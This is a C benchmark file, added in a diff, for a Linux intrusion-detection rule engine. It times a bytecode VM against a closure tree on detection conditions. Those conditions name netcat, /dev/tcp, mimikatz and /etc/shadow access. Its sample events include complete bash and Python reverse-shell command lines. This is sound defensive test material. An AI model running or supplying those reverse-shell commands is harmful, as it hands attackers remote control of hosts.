@@ -0,0 +1,550 @@
+#define _GNU_SOURCE
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <stdbool.h>
+
+#include "linx_test.h"
+#include "linx_log.h"
+#include "linx_hash_map.h"
+#include "linx_process_str.h"
+#include "linx_rule_engine_ast.h"
+#include "linx_rule_engine_match.h"
+#include "rule_match_vm.h"
+#include "rule_match_pred.h"
+
+/**
+ * 规则条件执行方式的基准测试
+ * 同一组条件分别编译为字节码由虚拟机执行，以及编译为字节码之前的闭包树：
+ * 每个节点保存函数指针和上下文，and/or/not 递归调用子节点，比较节点各自取值并用 strcmp/strstr 比较
+ * 两边使用相同的已解析字段取值，差别只在于执行方式、谓词共享和多模式匹配
+ * 每个事件依次匹配全部条件，虚拟机在事件开始前清空谓词缓存
+ *
+ * 用法：bench_rule_vm [每项秒数]，默认 0.5 秒
+*/
+
+#define BENCH_CHECK_EVERY   64
+#define BENCH_LIST_MAX      8
+
+/**
+ * 字段放在单独的表中，不依赖进程缓存和事件采集
+ * 字符串与 linx_process_info_t 一样是驻留的 CHARBUF_REF，带有长度
+*/
+typedef struct {
+    const char *name;
+    const char *pname;
+    const char *exe;
+    const char *cwd;
+    const char *cmdline;
+    int32_t uid;
+} bench_proc_t;
+
+/* 与内置规则形式相近的条件，多条规则引用相同的比较 */
+static const char *s_conditions[] = {
+    "bench.name in (bash, sh, zsh, dash) and bench.pname in (nginx, httpd, apache2, php-fpm)",
+    "bench.name in (nc, ncat, netcat, socat) and bench.cmdline contains \"-e \"",
+    "bench.exe startswith /tmp/ or bench.exe startswith /dev/shm/",
+    "bench.name in (bash, sh, zsh, dash) and bench.cmdline contains /dev/tcp/",
+    "bench.cmdline contains base64 and bench.name in (bash, sh, zsh, dash)",
+    "bench.name in (curl, wget) and bench.pname in (bash, sh, zsh, dash)",
+    "bench.uid < 1000 and bench.name in (passwd, chpasswd, useradd, usermod)",
+    "bench.cwd startswith /root and not bench.name in (bash, sh, zsh, dash)",
+    "bench.cmdline contains chmod and bench.cmdline contains \"+x\" and bench.cwd startswith /tmp",
+    "bench.exe endswith /python3 and bench.cmdline contains socket",
+    "bench.name = crontab and not bench.pname = cron",
+    "bench.cmdline icontains mimikatz or bench.cmdline icontains lazagne",
+    "bench.name in (python, python3, perl, ruby) and bench.cmdline contains \"-c \" and "
+        "bench.pname in (nginx, httpd, apache2, php-fpm)",
+    "bench.exe pmatch (/usr/bin, /usr/sbin, /bin, /sbin) and bench.name = sudo",
+    "not bench.exe pmatch (/usr, /bin, /sbin, /opt) and bench.uid > 999",
+    "bench.cmdline contains /etc/shadow or bench.cmdline contains /etc/passwd",
+};
+
+static const struct {
+    const char *name;
+    bench_proc_t proc;
+} s_events[] = {
+    { "reverse-shell", { "bash", "nginx", "/usr/bin/bash", "/var/www",
+                         "bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", 33 } },
+    { "benign", { "ls", "bash", "/usr/bin/ls", "/home/user", "ls -la --color=auto /var/log", 1000 } },
+    { "python-c", { "python3", "php-fpm", "/usr/bin/python3", "/var/www/html",
+                    "python3 -c import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
+                    "s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);"
+                    "subprocess.call([\"/bin/sh\",\"-i\"])", 33 } },
+    { "curl", { "curl", "bash", "/usr/bin/curl", "/tmp", "curl -fsSL https://example.com/install.sh -o i.sh", 0 } },
+};
+
+/**
+ * 闭包树的节点，与字节码之前的 linx_rule_match_t 相同，执行函数和上下文放在一起
+*/
+typedef struct bench_node_s bench_node_t;
+
+typedef bool (*bench_node_fn_t)(const bench_node_t *node, linx_field_ctx_t *fields);
+
+struct bench_node_s {
+    bench_node_fn_t func;
+    bench_node_t *left;
+    bench_node_t *right;
+    field_result_t field;
+    int64_t num;
+    const char *strs[BENCH_LIST_MAX];
+    size_t lens[BENCH_LIST_MAX];
+    int count;
+};
+
+static double s_seconds = 0.5;
+static volatile size_t s_sink = 0;
+
+static const char *bench_get_str(const bench_node_t *node, linx_field_ctx_t *fields)
+{
+    linx_field_type_t type;
+    const char **value = linx_hash_map_get_value(fields, &node->field, &type, NULL);
+
+    return value ? *value : NULL;
+}
+
+static bool bench_and(const bench_node_t *node, linx_field_ctx_t *fields)
+{
+    return node->left->func(node->left, fields) && node->right->func(node->right, fields);
+}
+
+static bool bench_or(const bench_node_t *node, linx_field_ctx_t *fields)
+{
+    return node->left->func(node->left, fields) || node->right->func(node->right, fields);
+}
+
+static bool bench_not(const bench_node_t *node, linx_field_ctx_t *fields)
+{
+    return !node->left->func(node->left, fields);
+}
+
+static bool bench_num_lt(const bench_node_t *node, linx_field_ctx_t *fields)
+{
+    linx_field_type_t type;
+    int32_t *value = linx_hash_map_get_value(fields, &node->field, &type, NULL);
+
+    return value && *value < node->num;
+}
+
+static bool bench_num_gt(const bench_node_t *node, linx_field_ctx_t *fields)
+{
+    linx_field_type_t type;
+    int32_t *value = linx_hash_map_get_value(fields, &node->field, &type, NULL);
+
+    return value && *value > node->num;
+}
+
+static bool bench_str_eq(const bench_node_t *node, linx_field_ctx_t *fields)
+{
+    const char *value = bench_get_str(node, fields);
+
+    return value && strcmp(value, node->strs[0]) == 0;
+}
+
+static bool bench_str_contains(const bench_node_t *node, linx_field_ctx_t *fields)
+{
+    const char *value = bench_get_str(node, fields);
+
+    return value && strstr(value, node->strs[0]) != NULL;
+}
+
+static bool bench_str_icontains(const bench_node_t *node, linx_field_ctx_t *fields)
+{
+    const char *value = bench_get_str(node, fields);
+
+    return value && strcasestr(value, node->strs[0]) != NULL;
+}
+
+static bool bench_str_startswith(const bench_node_t *node, linx_field_ctx_t *fields)
+{
+    const char *value = bench_get_str(node, fields);
+
+    return value && strncmp(value, node->strs[0], node->lens[0]) == 0;
+}
+
+static bool bench_str_endswith(const bench_node_t *node, linx_field_ctx_t *fields)
+{
+    const char *value = bench_get_str(node, fields);
+    size_t len;
+
+    if (!value) {
+        return false;
+    }
+
+    len = strlen(value);
+
+    return len >= node->lens[0] && strcmp(value + len - node->lens[0], node->strs[0]) == 0;
+}
+
+static bool bench_list_in(const bench_node_t *node, linx_field_ctx_t *fields)
+{
+    const char *value = bench_get_str(node, fields);
+
+    if (!value) {
+        return false;
+    }
+
+    for (int i = 0; i < node->count; i++) {
+        if (strcmp(value, node->strs[i]) == 0) {
+            return true;
+        }
+    }
+
+    return false;
+}
+
+static bool bench_list_pmatch(const bench_node_t *node, linx_field_ctx_t *fields)
+{
+    const char *value = bench_get_str(node, fields);
+
+    if (!value) {
+        return false;
+    }
+
+    for (int i = 0; i < node->count; i++) {
+        if (strncmp(value, node->strs[i], node->lens[i]) == 0 &&
+            (value[node->lens[i]] == '\0' || value[node->lens[i]] == '/'))
+        {
+            return true;
+        }
+    }
+
+    return false;
+}
+
+static void bench_node_destroy(bench_node_t *node)
+{
+    if (!node) {
+        return;
+    }
+
+    bench_node_destroy(node->left);
+    bench_node_destroy(node->right);
+    linx_hash_map_release_field(&node->field);
+    free(node);
+}
+
+/**
+ * 按 AST 构造闭包树，只支持上面条件中用到的比较方式
+ * 字符串常量直接引用 AST 中的内容，AST 要在闭包树之后释放
+*/
+static bench_node_t *bench_node_build(ast_node_t *ast)
+{
+    bench_node_t *node;
+    ast_node_t *value;
+    char path[64];
+
+    if (!ast) {
+        return NULL;
+    }
+
+    node = calloc(1, sizeof(bench_node_t));
+    if (!node) {
+        return NULL;
+    }
+
+    switch (ast->type) {
+    case AST_NODE_TYPE_BIN_BOOL_OP:
+        node->func = ast->data.binary.op.bool_op == BINARY_BOOL_OP_AND ? bench_and : bench_or;
+        node->left = bench_node_build(ast->data.binary.left);
+        node->right = bench_node_build(ast->data.binary.right);
+        if (!node->left || !node->right) {
+            goto clean_node;
+        }
+        return node;
+    case AST_NODE_TYPE_UN_OP:
+        node->func = bench_not;
+        node->left = bench_node_build(ast->data.unary.operand);
+        if (!node->left) {
+            goto clean_node;
+        }
+        return node;
+    case AST_NODE_TYPE_BIN_NUM_OP:
+        node->func = ast->data.binary.op.num_op == BINARY_NUM_OP_LT ? bench_num_lt : bench_num_gt;
+        break;
+    case AST_NODE_TYPE_BIN_STR_OP:
+        switch (ast->data.binary.op.str_op) {
+        case BINARY_STR_OP_EQ:
+        case BINARY_STR_OP_ASSIGN:
+            node->func = bench_str_eq;
+            break;
+        case BINARY_STR_OP_CONTAINS:
+            node->func = bench_str_contains;
+            break;
+        case BINARY_STR_OP_ICONTAINS:
+            node->func = bench_str_icontains;
+            break;
+        case BINARY_STR_OP_STARTSWITH:
+            node->func = bench_str_startswith;
+            break;
+        case BINARY_STR_OP_ENDSWITH:
+            node->func = bench_str_endswith;
+            break;
+        default:
+            goto clean_node;
+        }
+        break;
+    case AST_NODE_TYPE_BIN_LIST_OP:
+        node->func = ast->data.binary.op.list_op == BINARY_LIST_OP_PMATCH ? bench_list_pmatch : bench_list_in;
+        break;
+    default:
+        goto clean_node;
+    }
+
+    if (!ast->data.binary.left || ast->data.binary.left->type != AST_NODE_TYPE_FIELD_NAME ||
+        !ast->data.binary.right)
+    {
+        goto clean_node;
+    }
+
+    /* 按路径查找会改写字段名，保留 AST 原样 */
+    snprintf(path, sizeof(path), "%s", ast->data.binary.left->data.field.name);
+    node->field = linx_hash_map_get_field_by_path(path);
+    if (!node->field.found) {
+        goto clean_node;
+    }
+
+    value = ast->data.binary.right;
+    switch (value->type) {
+    case AST_NODE_TYPE_INT:
+        node->num = value->data.number_value.int_value;
+        break;
+    case AST_NODE_TYPE_STRING:
+        node->strs[0] = value->data.string_value;
+        node->lens[0] = strlen(value->data.string_value);
+        node->count = 1;
+        break;
+    case AST_NODE_TYPE_LIST:
+        if (value->data.list.count > BENCH_LIST_MAX) {
+            goto clean_node;
+        }
+        for (int i = 0; i < value->data.list.count; i++) {
+            node->strs[i] = value->data.list.items[i]->data.string_value;
+            node->lens[i] = strlen(node->strs[i]);
+        }
+        node->count = value->data.list.count;
+        break;
+    default:
+        goto clean_node;
+    }
+
+    return node;
+
+clean_node:
+    bench_node_destroy(node);
+    return NULL;
+}
+
+static void bench_proc_intern(bench_proc_t *proc, const bench_proc_t *src)
+{
+    proc->name = linx_process_str_intern(src->name, strlen(src->name));
+    proc->pname = linx_process_str_intern(src->pname, strlen(src->pname));
+    proc->exe = linx_process_str_intern(src->exe, strlen(src->exe));
+    proc->cwd = linx_process_str_intern(src->cwd, strlen(src->cwd));
+    proc->cmdline = linx_process_str_intern(src->cmdline, strlen(src->cmdline));
+    proc->uid = src->uid;
+}
+
+static void bench_proc_release(bench_proc_t *proc)
+{
+    linx_process_str_unref(proc->name);
+    linx_process_str_unref(proc->pname);
+    linx_process_str_unref(proc->exe);
+    linx_process_str_unref(proc->cwd);
+    linx_process_str_unref(proc->cmdline);
+}
+
+typedef struct {
+    bench_node_t *trees[TEST_ARRAY_SIZE(s_conditions)];
+    ast_node_t *asts[TEST_ARRAY_SIZE(s_conditions)];
+    linx_rule_match_t *matches[TEST_ARRAY_SIZE(s_conditions)];
+    linx_rule_memo_t *memo;
+} bench_rules_t;
+
+/**
+ * 同一个条件解析两次，一份构造闭包树，一份编译为字节码，编译时会释放 AST
+*/
+static int bench_rules_build(bench_rules_t *rules)
+{
+    ast_node_t *ast;
+
+    for (size_t i = 0; i < TEST_ARRAY_SIZE(s_conditions); i++) {
+        if (condition_to_ast(s_conditions[i], &rules->asts[i]) || !rules->asts[i]) {
+            fprintf(stderr, "failed to parse \"%s\"\n", s_conditions[i]);
+            return -1;
+        }
+
+        rules->trees[i] = bench_node_build(rules->asts[i]);
+        if (!rules->trees[i]) {
+            fprintf(stderr, "failed to build closure tree for \"%s\"\n", s_conditions[i]);
+            return -1;
+        }
+
+        ast = NULL;
+        if (condition_to_ast(s_conditions[i], &ast) || linx_compile_ast(ast, &rules->matches[i])) {
+            fprintf(stderr, "failed to compile \"%s\"\n", s_conditions[i]);
+            return -1;
+        }
+    }
+
+    /* 与加载规则时一样，全部条件编译完成后再构造多模式匹配组和谓词缓存 */
+    if (linx_rule_pred_build()) {
+        return -1;
+    }
+
+    rules->memo = linx_rule_memo_create();
+
+    return rules->memo ? 0 : -1;
+}
+
+static void bench_rules_free(bench_rules_t *rules)
+{
+    for (size_t i = 0; i < TEST_ARRAY_SIZE(s_conditions); i++) {
+        bench_node_destroy(rules->trees[i]);
+        ast_node_destroy(rules->asts[i]);
+        linx_rule_engine_match_destroy(rules->matches[i]);
+    }
+
+    linx_rule_memo_destroy(rules->memo);
+    linx_rule_pred_deinit();
+}
+
+static size_t bench_closure(bench_rules_t *rules, linx_field_ctx_t *fields)
+{
+    size_t hits = 0;
+
+    for (size_t i = 0; i < TEST_ARRAY_SIZE(s_conditions); i++) {
+        hits += rules->trees[i]->func(rules->trees[i], fields);
+    }
+
+    return hits;
+}
+
+static size_t bench_vm(bench_rules_t *rules, linx_field_ctx_t *fields)
+{
+    size_t hits = 0;
+
+    linx_rule_memo_reset(rules->memo);
+
+    for (size_t i = 0; i < TEST_ARRAY_SIZE(s_conditions); i++) {
+        hits += linx_rule_vm_exec(rules->matches[i], fields, rules->memo);
+    }
+
+    return hits;
+}
+
+typedef size_t (*bench_fn_t)(bench_rules_t *rules, linx_field_ctx_t *fields);
+
+static double bench_report(const char *event, const char *name, bench_fn_t fn, bench_rules_t *rules,
+                           linx_field_ctx_t *fields)
+{
+    uint64_t ops = 0;
+    double begin, elapsed, ns;
+    size_t sum = 0;
+
+    begin = test_now();
+    do {
+        for (int i = 0; i < BENCH_CHECK_EVERY; i++) {
+            __asm__ volatile("" : : "r"(fields) : "memory");
+            sum += fn(rules, fields);
+        }
+        ops += BENCH_CHECK_EVERY;
+        elapsed = test_now() - begin;
+    } while (elapsed < s_seconds);
+
+    s_sink += sum;
+
+    ns = elapsed * 1e9 / ops;
+    printf("%-14s %-8s %8.1f ns/event %6.1f ns/rule\n", event, name, ns, ns / TEST_ARRAY_SIZE(s_conditions));
+
+    return ns;
+}
+
+/**
+ * 计时前检查两种执行方式对每个事件的每个条件结果一致
+*/
+static int bench_verify(bench_rules_t *rules, linx_field_ctx_t *fields, const char *event)
+{
+    bool expected, result;
+    int ret = 0;
+
+    linx_rule_memo_reset(rules->memo);
+
+    for (size_t i = 0; i < TEST_ARRAY_SIZE(s_conditions); i++) {
+        expected = rules->trees[i]->func(rules->trees[i], fields);
+        result = linx_rule_vm_exec(rules->matches[i], fields, rules->memo);
+        if (result != expected) {
+            fprintf(stderr, "%s: \"%s\" is %d in the vm, %d in the closure tree\n",
+                    event, s_conditions[i], result, expected);
+            ret = -1;
+        }
+    }
+
+    return ret;
+}
+
+int main(int argc, char **argv)
+{
+    static bench_proc_t procs[TEST_ARRAY_SIZE(s_events)];
+    static const field_mapping_t mappings[] = {
+        FILED_MAPPING(bench_proc_t, name, LINX_FIELD_TYPE_CHARBUF_REF),
+        FILED_MAPPING(bench_proc_t, pname, LINX_FIELD_TYPE_CHARBUF_REF),
+        FILED_MAPPING(bench_proc_t, exe, LINX_FIELD_TYPE_CHARBUF_REF),
+        FILED_MAPPING(bench_proc_t, cwd, LINX_FIELD_TYPE_CHARBUF_REF),
+        FILED_MAPPING(bench_proc_t, cmdline, LINX_FIELD_TYPE_CHARBUF_REF),
+        FILED_MAPPING(bench_proc_t, uid, LINX_FIELD_TYPE_INT32),
+    };
+    bench_rules_t rules = { 0 };
+    linx_field_ctx_t fields = { 0 };
+    double closure = 0, vm = 0;
+    int table_index;
+    int ret = 1;
+
+    if (argc > 1 && atof(argv[1]) > 0) {
+        s_seconds = atof(argv[1]);
+    }
+
+    if (linx_log_init("stderr", "ERROR") || linx_hash_map_init() ||
+        linx_hash_map_add_field_batch("bench", mappings, TEST_ARRAY_SIZE(mappings)))
+    {
+        fprintf(stderr, "init failed\n");
+        return 1;
+    }
+
+    table_index = linx_hash_map_get_table_index("bench");
+
+    if (bench_rules_build(&rules)) {
+        goto clean_rules;
+    }
+
+    for (size_t i = 0; i < TEST_ARRAY_SIZE(s_events); i++) {
+        bench_proc_intern(&procs[i], &s_events[i].proc);
+        fields.bases[table_index] = &procs[i];
+        if (bench_verify(&rules, &fields, s_events[i].name)) {
+            goto clean_rules;
+        }
+    }
+
+    printf("%zu rules, %u shared predicates\n", TEST_ARRAY_SIZE(s_conditions), linx_rule_pred_count());
+
+    for (size_t i = 0; i < TEST_ARRAY_SIZE(s_events); i++) {
+        fields.bases[table_index] = &procs[i];
+        closure += bench_report(s_events[i].name, "closure", bench_closure, &rules, &fields);
+        vm += bench_report(s_events[i].name, "vm", bench_vm, &rules, &fields);
+    }
+
+    printf("%-14s %-8s %8.1f ns/event\n", "mean", "closure", closure / TEST_ARRAY_SIZE(s_events));
+    printf("%-14s %-8s %8.1f ns/event\n", "mean", "vm", vm / TEST_ARRAY_SIZE(s_events));
+
+    ret = 0;
+
+clean_rules:
+    for (size_t i = 0; i < TEST_ARRAY_SIZE(s_events); i++) {
+        bench_proc_release(&procs[i]);
+    }
+    bench_rules_free(&rules);
+    linx_hash_map_deinit();
+    linx_log_deinit();
+
+    return ret;
+}